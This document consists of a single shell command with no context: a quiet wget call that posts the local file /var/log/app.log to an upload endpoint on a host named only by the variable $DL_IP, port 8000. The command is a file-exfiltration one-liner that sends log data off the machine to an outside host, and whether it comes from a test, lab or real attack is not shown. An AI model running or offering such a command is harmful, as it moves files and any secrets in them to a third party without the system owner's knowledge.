wget -q -O /dev/null --post-file /var/log/app.log "http://$DL_IP:8000/upload"
